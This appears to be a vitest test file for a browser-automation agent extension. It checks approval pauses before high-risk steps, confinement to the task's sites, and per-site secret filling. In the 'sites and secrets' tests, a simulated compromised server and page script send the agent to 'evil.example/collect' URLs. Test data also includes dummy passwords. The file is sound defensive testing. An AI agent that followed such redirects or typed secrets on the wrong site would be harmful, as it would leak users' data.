// The loop within the task's limits, with its browser boundary scripted
// (loop-fakes.ts): the server may be wrong or compromised, the extension still keeps the task on
// its sites, types secrets only where they belong and asks before high-risk steps.
import { describe, expect, it } from 'vitest';
import { setAskBefore } from '../shared/ask-before';
import { memoryStore } from '../shared/memory-store';
import { loadRun } from '../shared/run-state';
import { saveSecret } from '../shared/secrets';
import { approvedOnPage, approveRun, rejectRun } from './approval';
import { adoptRuns } from './adopt-runs';
import { click, finished, recordingTabs, scriptedApi, step, TASK, URL } from './loop-fakes';
import { runTaskLoop, startRun } from './task-loop';
import type { SiteGuard } from './site-guard';

const SITES = ['a.example'];
const send = {
  action: 'setValue("2", "See you at 9")',
  actionDetails: { name: 'setValue', args: { id: '2', text: 'See you at 9' } },
  actions: [
    { action: 'setValue("2", "See you at 9")', description: 'Message', index: 0 },
    { action: 'click("3")', description: 'Send', index: 1 },
  ],
  approval: { risks: [{ index: 1, kind: 'message', reason: 'Sends: “Send”' }] },
};

async function started(goal = 'send the reminder') {
  const storage = memoryStore();
  await startRun(storage, 4, goal, 1, SITES);
  return storage;
}

describe('approval for high-risk steps', () => {
  it('pauses before anything of the step runs, and approve runs it, then reports it', async () => {
    const storage = await started();
    const api = scriptedApi([step(send), step(finished('sent'))]);
    const tabs = recordingTabs();
    const paused = await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(paused).toMatchObject({
      status: 'needs_approval',
      approval: {
        actions: [
          { action: 'setValue("2", "See you at 9")', canFail: false, index: 0 },
          { action: 'click("3")', canFail: false, index: 1 },
        ],
        isChain: true,
        risks: [{ index: 1, kind: 'message' }],
        url: URL,
      },
    });
    expect(tabs.executed).toEqual([]);

    await approveRun(storage, 4);
    const run = await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(run?.status).toBe('completed');
    expect(tabs.executed).toEqual(['setValue("2", "See you at 9")', 'click("3")']);
    expect(api.requests).toHaveLength(2);
    expect(api.requests[1]).toMatchObject({
      taskId: TASK,
      approval: { decision: 'approved' },
      lastActionStatus: 'success',
    });
  });

  it('an edit runs as edited and is reported; only text may change', async () => {
    const storage = await started();
    const api = scriptedApi([step(send), step(finished('sent'))]);
    const tabs = recordingTabs();
    await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    await expect(approveRun(storage, 4, ['setValue("9", "x")', 'click("3")'])).rejects.toThrow(
      /Only the typed text/,
    );
    await approveRun(storage, 4, ['setValue("2", "See you at 10")', 'click("3")']);
    await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(tabs.executed).toEqual(['setValue("2", "See you at 10")', 'click("3")']);
    expect(api.requests[1]?.approval).toEqual({
      decision: 'edited',
      actions: ['setValue("2", "See you at 10")', 'click("3")'],
    });
  });

  it('reject runs nothing and tells the server with the next request', async () => {
    const storage = await started();
    const api = scriptedApi([step(send), step(finished('not sent'))]);
    const tabs = recordingTabs();
    await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    await rejectRun(storage, 4, 'Not today');
    const run = await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(run?.status).toBe('completed');
    expect(tabs.executed).toEqual([]);
    expect(api.requests[1]?.approval).toEqual({ decision: 'rejected', note: 'Not today' });
    expect(api.requests[1]?.lastActionStatus).toBeUndefined();
  });

  it('pauses on what only the page knows (a payment form) and on the user’s own marks', async () => {
    const storage = await started();
    await setAskBefore(storage, 'Archive', true);
    const api = scriptedApi([step(click('5'))]);
    const tabs = recordingTabs({
      facts: { '5': { role: 'btn', name: 'Submit', form: 'payment', leadsTo: 'a.example' } },
    });
    expect(await runTaskLoop({ tabs, storage, api: async () => api }, 4)).toMatchObject({
      status: 'needs_approval',
      approval: {
        risks: [{ index: 0, kind: 'payment', reason: 'Submits a payment form: “Submit”' }],
      },
    });
    const marked = await started();
    await setAskBefore(marked, 'archive', true);
    const tabs2 = recordingTabs({
      facts: { '5': { role: 'btn', name: 'Archive all', form: null, leadsTo: null } },
    });
    expect(
      await runTaskLoop(
        { tabs: tabs2, storage: marked, api: async () => scriptedApi([step(click('5'))]) },
        4,
      ),
    ).toMatchObject({ status: 'needs_approval', approval: { risks: [{ kind: 'user_marked' }] } });
    expect([...tabs.executed, ...tabs2.executed]).toEqual([]);
  });

  it('a card survives a browser restart: it moves to the tab that shows its page again', async () => {
    const storage = await started();
    await runTaskLoop(
      { tabs: recordingTabs(), storage, api: async () => scriptedApi([step(send)]) },
      4,
    );
    expect(await adoptRuns(storage, [{ id: 11, url: 'https://other.example/' }])).toBe(0);
    expect(await adoptRuns(storage, [{ id: 12, url: URL }])).toBe(1);
    expect(await loadRun(storage, 4)).toBeNull();
    expect(await loadRun(storage, 12)).toMatchObject({ tabId: 12, status: 'needs_approval' });
  });
});

describe('sites and secrets', () => {
  it('hands every action to the page with the task’s sites, and holds the tab while it runs', async () => {
    const storage = await started('open the report');
    const held: string[] = [];
    const siteGuard: SiteGuard = {
      hold: async (tabId, sites) => void held.push(`hold ${tabId} ${sites.join(',')}`),
      release: async (tabId) => void held.push(`release ${tabId}`),
    };
    // A compromised server sends the tab elsewhere: the page refuses it (blocked).
    const api = scriptedApi([
      step({
        action: 'navigate("https://evil.example/collect?x=1")',
        actionDetails: { name: 'navigate', args: { url: 'https://evil.example/collect?x=1' } },
      }),
      step(finished('done')),
    ]);
    const tabs = recordingTabs({
      fail: {
        'navigate("https://evil.example/collect?x=1")':
          'evil.example is not one of this task’s sites',
      },
    });
    await runTaskLoop({ tabs, storage, api: async () => api, siteGuard }, 4);
    expect(tabs.limits).toEqual([{ allowedSites: SITES }]);
    expect(api.requests[0]?.sites).toEqual(SITES);
    expect(api.requests[1]?.sites).toBeUndefined();
    expect(held).toEqual(['hold 4 a.example', 'release 4']);
  });

  it('a navigation a page script made outside the sites is undone and reported as blocked', async () => {
    const storage = await started('continue reading');
    const api = scriptedApi([step(click('1')), step(finished('done'))]);
    const tabs = recordingTabs({ escapeTo: 'https://evil.example/collect?leak=1' });
    await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(tabs.backs).toBe(1);
    expect(api.requests[1]).toMatchObject({
      lastActionStatus: 'failure',
      lastActionError: expect.stringMatching(
        /^blocked: the page went to evil\.example, which is not one of this task's sites/,
      ),
    });
  });

  it('fills a secret in the page only, on its site; the server gets names and placeholders', async () => {
    const storage = await started('log in');
    await saveSecret(storage, {
      name: 'clinic_password',
      value: 'hunter2-9431',
      sites: ['a.example'],
    });
    await saveSecret(storage, { name: 'bank_pin', value: 'pin-5555', sites: ['bank.example'] });
    const typed = 'setValue("1", "{{secret:clinic_password}}")';
    const wrongSite = 'setValue("1", "{{secret:bank_pin}}")';
    const api = scriptedApi([
      step({
        action: typed,
        actionDetails: { name: 'setValue', args: { id: '1', text: '{{secret:clinic_password}}' } },
      }),
      step({
        action: wrongSite,
        actionDetails: { name: 'setValue', args: { id: '1', text: '{{secret:bank_pin}}' } },
      }),
      step(finished('done')),
    ]);
    const tabs = recordingTabs();
    await runTaskLoop({ tabs, storage, api: async () => api }, 4);
    expect(tabs.executed).toEqual(['setValue("1", "hunter2-9431")']);
    expect(tabs.limits[0]).toEqual({ allowedSites: SITES, typeOnlyOn: ['a.example'] });
    expect(api.requests[0]?.secrets).toEqual([
      { name: 'bank_pin', sites: ['bank.example'] },
      { name: 'clinic_password', sites: ['a.example'] },
    ]);
    expect(api.requests[2]).toMatchObject({
      lastActionStatus: 'failure',
      lastActionError:
        'blocked: {{secret:bank_pin}} may only be typed on bank.example, not on a.example',
    });
    expect(JSON.stringify(api.requests)).not.toMatch(/hunter2|pin-5555/);
  });
});

describe('an approved step on a reloaded page', () => {
  const steps = [
    { action: 'setValue("2", "See you at 9")', canFail: false, index: 0 },
    { action: 'click("3")', canFail: false, index: 1 },
  ];
  const names = { '2': 'Message', '3': 'Send message' };

  it('finds each element again by the name it had on the card', () => {
    const tree = [
      { i: '7', r: 'txt', n: 'Message' },
      { i: '3', r: 'btn', n: 'Send message' },
    ];
    expect(approvedOnPage(steps, names, tree)).toEqual({
      ok: true,
      steps: [
        { action: 'setValue("7", "See you at 9")', canFail: false, index: 0 },
        { action: 'click("3")', canFail: false, index: 1 },
      ],
    });
  });

  it('stops when an element is gone or no longer unique', () => {
    expect(approvedOnPage(steps, names, [{ i: '7', r: 'txt', n: 'Message' }])).toEqual({
      ok: false,
      reason: 'the page changed since you approved it: “Send message” is not on it',
    });
    const twice = [
      { i: '7', r: 'txt', n: 'Message' },
      { i: '8', r: 'btn', n: 'Send message' },
      { i: '9', r: 'btn', n: 'Send message' },
    ];
    expect(approvedOnPage(steps, names, twice).ok).toBe(false);
  });
});
